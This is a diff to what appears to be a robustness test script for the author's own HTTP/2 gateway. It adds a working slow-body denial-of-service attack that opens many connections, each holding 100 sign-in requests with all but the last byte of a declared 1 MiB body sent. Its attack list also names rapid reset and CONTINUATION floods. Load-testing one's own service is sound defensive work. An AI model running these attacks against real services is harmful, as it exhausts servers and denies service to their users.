@@ -29,6 +29,7 @@ import h2.config
 import h2.connection
 import h2.errors
 import h2.events
+import h2.exceptions
 
 URL, TOKEN, GATEWAY_PID, STACK_PID = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
 SHORT = "--short" in sys.argv
@@ -276,9 +277,29 @@ def request_block(path="/v1/me", method="GET", extra=()):
     )
 
 
-def h2_connect(settings=b""):
+def h2_connect(settings=b"", acknowledge=False):
+    """An HTTP/2 connection, its preface sent. With `acknowledge`, the server's SETTINGS are read
+    and acknowledged, as a real client does: until then the server holds its streams to the
+    protocol's default windows."""
     sock = connect(alpn=("h2",))
     sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
+    if acknowledge:
+        def exactly(count):
+            data = b""
+            while len(data) < count:
+                chunk = sock.recv(count - len(data))
+                if not chunk:
+                    raise ConnectionError("closed before its SETTINGS")
+                data += chunk
+            return data
+
+        while True:
+            header = exactly(9)
+            length, kind, flags = int.from_bytes(header[:3], "big"), header[3], header[4]
+            exactly(length)
+            if kind == SETTINGS and not flags & ACK:
+                break
+        sock.sendall(frame(SETTINGS, ACK, 0))
     return sock
 
 
@@ -521,6 +542,79 @@ def zero_window(count, streams=1):
     return attack
 
 
+def held_bodies(count, streams=100, framed=True):
+    """`count` connections that each open `streams` sign-ins announcing a body of 1 MiB and send
+    as much of it as the gateway's flow-control windows let them, but never its last byte, on
+    every stream at once, and hold: the first requests wait at the service for the rest of their
+    body, the others for their connection's turns, and whatever the gateway takes for them
+    meanwhile it holds until the attacker goes. `framed`: each stream declares its length (the
+    relay takes it as frames); otherwise none is declared (the stream becomes a stream channel)."""
+    length = 1 << 20
+
+    def attack(seconds):
+        deadline = time.monotonic() + seconds
+        headers = [(":method", "POST"), (":scheme", "https" if TLS else "http"), (":path", "/v1/auth/login"),
+                   (":authority", HOST), ("content-type", "application/json")]
+        if framed:
+            headers.append(("content-length", str(length)))
+        held, sent = [], 0
+
+        def push(sock, conn, remaining):
+            nonlocal sent
+            for stream in list(remaining):
+                try:
+                    while remaining[stream] > 0:
+                        piece = min(remaining[stream], conn.local_flow_control_window(stream), 16384)
+                        if piece <= 0:
+                            break
+                        conn.send_data(stream, b"x" * piece)
+                        remaining[stream] -= piece
+                        sent += piece
+                except h2.exceptions.StreamClosedError:
+                    del remaining[stream]
+            sock.sendall(conn.data_to_send())
+
+        for _ in range(count):
+            try:
+                sock = connect(alpn=("h2",))
+                conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+                conn.initiate_connection()
+                remaining = {}
+                for index in range(streams):
+                    stream = conn.get_next_available_stream_id()
+                    conn.send_headers(stream, headers)
+                    remaining[stream] = length - 1
+                push(sock, conn, remaining)
+                held.append((sock, conn, remaining))
+            except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
+                pass
+        # Whatever window the gateway opens is filled, until the attack's time is up.
+        while time.monotonic() < deadline:
+            for sock, conn, remaining in held:
+                sock.setblocking(False)
+                try:
+                    while True:
+                        data = sock.recv(65536)
+                        if not data:
+                            break
+                        conn.receive_data(data)
+                except (BlockingIOError, ssl.SSLWantReadError):
+                    pass
+                except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
+                    continue
+                sock.setblocking(True)
+                try:
+                    push(sock, conn, remaining)
+                except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
+                    pass
+            time.sleep(0.05)
+        for sock, _, _ in held:
+            sock.close()
+        return f"{len(held)} connections held, {sent >> 20} MiB of bodies sent"
+
+    return attack
+
+
 def concurrent_streams(connections=10, streams=100):
     """Legitimate load: `connections` HTTP/2 connections each with `streams` concurrent GETs.
     Every one must be answered 200 (the advertised stream limit queues or refuses the excess;
@@ -674,11 +768,13 @@ def main():
         ("zero-window holds", zero_window(50)),
         ("20 connections x 100 zero-window streams", zero_window(20, 100)),
         ("10 connections x 100 streams", concurrent_streams()),
+        ("held bodies, declared lengths", held_bodies(10)),
+        ("held bodies, no length", held_bodies(10, framed=False)),
     ]
     if SHORT:
         keep = {"HEAD loop (anonymous)", "30 KB header", "malformed chunk size", "HTTP/1.1 framing error",
                 "500 silent connections", "500 half HTTP/2 prefaces", "rapid reset", "CONTINUATION flood",
-                "10 connections x 100 streams"}
+                "10 connections x 100 streams", "held bodies, declared lengths", "held bodies, no length"}
         attacks = [attack for attack in attacks if attack[0] in keep]
     only = os.environ.get("ROBUSTNESS_ONLY")
     if only:
